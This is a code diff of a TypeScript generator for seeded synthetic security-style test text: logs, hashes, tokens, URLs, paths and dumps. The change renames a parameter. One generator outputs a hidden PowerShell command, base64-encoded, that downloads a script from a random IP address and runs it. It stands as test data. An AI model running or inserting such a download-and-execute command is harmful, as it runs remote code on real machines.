@@ -29,86 +29,86 @@ const CODE = [
 ]
 
 const padNumber = (value: number, width = 2): string => String(value).padStart(width, '0')
-const drawAddress = (chance: SeededRandom): string => Array.from({ length: 4 }, () => chance.below(256)).join('.')
-const drawClock = (chance: SeededRandom): string =>
-  `${padNumber(chance.below(24))}:${padNumber(chance.below(60))}:${padNumber(chance.below(60))}`
+const drawAddress = (random: SeededRandom): string => Array.from({ length: 4 }, () => random.below(256)).join('.')
+const drawClock = (random: SeededRandom): string =>
+  `${padNumber(random.below(24))}:${padNumber(random.below(60))}:${padNumber(random.below(60))}`
 const createLines = (count: number, line: () => string): string => Array.from({ length: count }, line).join('\n')
-const drawUuid = (chance: SeededRandom): string => [8, 4, 4, 4, 12].map((length) => chance.text(length, HEX)).join('-')
-const drawBytes = (chance: SeededRandom, length: number): Uint8Array =>
-  Uint8Array.from({ length }, () => chance.below(256))
+const drawUuid = (random: SeededRandom): string => [8, 4, 4, 4, 12].map((length) => random.text(length, HEX)).join('-')
+const drawBytes = (random: SeededRandom, length: number): Uint8Array =>
+  Uint8Array.from({ length }, () => random.below(256))
 
 /** What questions, events and evidence are made of, as much as a few paragraphs of each. */
-export const TEXTS: Record<string, (chance: SeededRandom) => string> = {
-  english: (chance) => createLines(4, () => chance.pick(ENGLISH)),
-  chinese: (chance) => createLines(4, () => chance.pick(CHINESE)),
-  logs: (chance) =>
+export const TEXTS: Record<string, (random: SeededRandom) => string> = {
+  english: (random) => createLines(4, () => random.pick(ENGLISH)),
+  chinese: (random) => createLines(4, () => random.pick(CHINESE)),
+  logs: (random) =>
     createLines(8, () =>
-      chance.pick([
-        `2026-11-22T${drawClock(chance)}.${padNumber(chance.below(1_000), 3)}Z FIN-WS-${padNumber(chance.below(99), 3)} sshd[${chance.below(65_535)}]: Failed password for invalid user admin from ${drawAddress(chance)} port ${chance.below(65_535)} ssh2`,
-        `${drawAddress(chance)} - - [22/Nov/2026:${drawClock(chance)} +0000] "GET /api/v1/items?id=${chance.below(9_999)} HTTP/1.1" 404 ${chance.below(99_999)} "-" "curl/8.5.0"`,
-        `EventID=4625 LogonType=${chance.below(11)} TargetUserName=svc_backup IpAddress=${drawAddress(chance)} Status=0xC000006D`,
+      random.pick([
+        `2026-11-22T${drawClock(random)}.${padNumber(random.below(1_000), 3)}Z FIN-WS-${padNumber(random.below(99), 3)} sshd[${random.below(65_535)}]: Failed password for invalid user admin from ${drawAddress(random)} port ${random.below(65_535)} ssh2`,
+        `${drawAddress(random)} - - [22/Nov/2026:${drawClock(random)} +0000] "GET /api/v1/items?id=${random.below(9_999)} HTTP/1.1" 404 ${random.below(99_999)} "-" "curl/8.5.0"`,
+        `EventID=4625 LogonType=${random.below(11)} TargetUserName=svc_backup IpAddress=${drawAddress(random)} Status=0xC000006D`,
       ]),
     ),
-  'mixed logs': (chance) =>
+  'mixed logs': (random) =>
     createLines(6, () =>
-      chance.pick([
-        `2026-11-22 ${drawClock(chance)} [警告] 主机 FIN-WS-${padNumber(chance.below(99), 3)} 登录失败 user=zhangsan src=${drawAddress(chance)}:${chance.below(65_535)} 原因=密码错误`,
-        `【${chance.pick(['高危', '中危'])}】${drawAddress(chance)} 访问 https://cdn-update.example/a.php?id=${chance.below(9_999)}，规则 ET-${chance.below(99_999)} 命中 ${chance.below(99)} 次`,
+      random.pick([
+        `2026-11-22 ${drawClock(random)} [警告] 主机 FIN-WS-${padNumber(random.below(99), 3)} 登录失败 user=zhangsan src=${drawAddress(random)}:${random.below(65_535)} 原因=密码错误`,
+        `【${random.pick(['高危', '中危'])}】${drawAddress(random)} 访问 https://cdn-update.example/a.php?id=${random.below(9_999)}，规则 ET-${random.below(99_999)} 命中 ${random.below(99)} 次`,
       ]),
     ),
-  json: (chance) =>
+  json: (random) =>
     createLines(3, () =>
       JSON.stringify(
         {
           level: 'warn',
-          time: 1_763_800_000_000 + chance.below(1e9),
+          time: 1_763_800_000_000 + random.below(1e9),
           request: {
-            id: drawUuid(chance),
+            id: drawUuid(random),
             method: 'GET',
             url: '/api/v1/items',
             headers: { 'user-agent': 'curl/8.5.0' },
           },
-          bytes: [chance.below(999), chance.below(999)],
+          bytes: [random.below(999), random.below(999)],
           user: null,
-          ok: chance.next() > 0.5,
+          ok: random.next() > 0.5,
         },
         null,
-        chance.pick([0, 2]),
+        random.pick([0, 2]),
       ),
     ),
-  hashes: (chance) =>
-    createLines(8, () => chance.text(chance.pick([32, 40, 64]), chance.pick([HEX, HEX.toUpperCase()]))),
-  identifiers: (chance) => createLines(8, () => drawUuid(chance)),
-  base64: (chance) => Buffer.from(drawBytes(chance, 300)).toString(chance.pick(['base64', 'base64url'])),
-  'an encoded command': (chance) =>
-    `powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString("http://${drawAddress(chance)}/${chance.text(6, LOWER)}.ps1")`, 'utf16le').toString('base64')}`,
-  tokens: (chance) => createLines(6, () => chance.text(40, ALNUM)),
-  'a dump': (chance) =>
+  hashes: (random) =>
+    createLines(8, () => random.text(random.pick([32, 40, 64]), random.pick([HEX, HEX.toUpperCase()]))),
+  identifiers: (random) => createLines(8, () => drawUuid(random)),
+  base64: (random) => Buffer.from(drawBytes(random, 300)).toString(random.pick(['base64', 'base64url'])),
+  'an encoded command': (random) =>
+    `powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString("http://${drawAddress(random)}/${random.text(6, LOWER)}.ps1")`, 'utf16le').toString('base64')}`,
+  tokens: (random) => createLines(6, () => random.text(40, ALNUM)),
+  'a dump': (random) =>
     createLines(
       6,
       () =>
-        `${padNumber(chance.below(9_999), 4)}: ${Array.from({ length: 8 }, () => chance.text(4, HEX)).join(' ')}  ................`,
+        `${padNumber(random.below(9_999), 4)}: ${Array.from({ length: 8 }, () => random.text(4, HEX)).join(' ')}  ................`,
     ),
-  addresses: (chance) => Array.from({ length: 20 }, () => drawAddress(chance)).join(chance.pick(['\n', ', ', ' '])),
-  domains: (chance) =>
+  addresses: (random) => Array.from({ length: 20 }, () => drawAddress(random)).join(random.pick(['\n', ', ', ' '])),
+  domains: (random) =>
     createLines(
       10,
-      () => `${chance.text(6 + chance.below(12), LOWER)}.${chance.pick(['com', 'example', 'net', 'top', 'ru'])}`,
+      () => `${random.text(6 + random.below(12), LOWER)}.${random.pick(['com', 'example', 'net', 'top', 'ru'])}`,
     ),
-  urls: (chance) =>
+  urls: (random) =>
     createLines(
       4,
       () =>
-        `https://${chance.text(8, LOWER)}.example/%2e%2e%2f${chance.text(6, ALNUM)}?q=%E6%94%BB%E5%87%BB&t=${chance.below(1e9)}`,
+        `https://${random.text(8, LOWER)}.example/%2e%2e%2f${random.text(6, ALNUM)}?q=%E6%94%BB%E5%87%BB&t=${random.below(1e9)}`,
     ),
-  paths: (chance) =>
+  paths: (random) =>
     createLines(
       4,
       () =>
-        `C:\\Users\\m.chen\\AppData\\Local\\Temp\\~DF${chance.text(4, HEX.toUpperCase())}.tmp HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
+        `C:\\Users\\m.chen\\AppData\\Local\\Temp\\~DF${random.text(4, HEX.toUpperCase())}.tmp HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
     ),
-  code: (chance) => createLines(2, () => chance.pick(CODE)),
-  emoji: (chance) => Array.from({ length: 30 }, () => chance.pick(EMOJI)).join(chance.pick(['', ' '])),
-  digits: (chance) => chance.text(200, '0123456789'),
-  signs: (chance) => chance.text(200, '!@#$%^&*()_+-=[]{}|;:\'",.<>/?`~'),
+  code: (random) => createLines(2, () => random.pick(CODE)),
+  emoji: (random) => Array.from({ length: 30 }, () => random.pick(EMOJI)).join(random.pick(['', ' '])),
+  digits: (random) => random.text(200, '0123456789'),
+  signs: (random) => random.text(200, '!@#$%^&*()_+-=[]{}|;:\'",.<>/?`~'),
 }
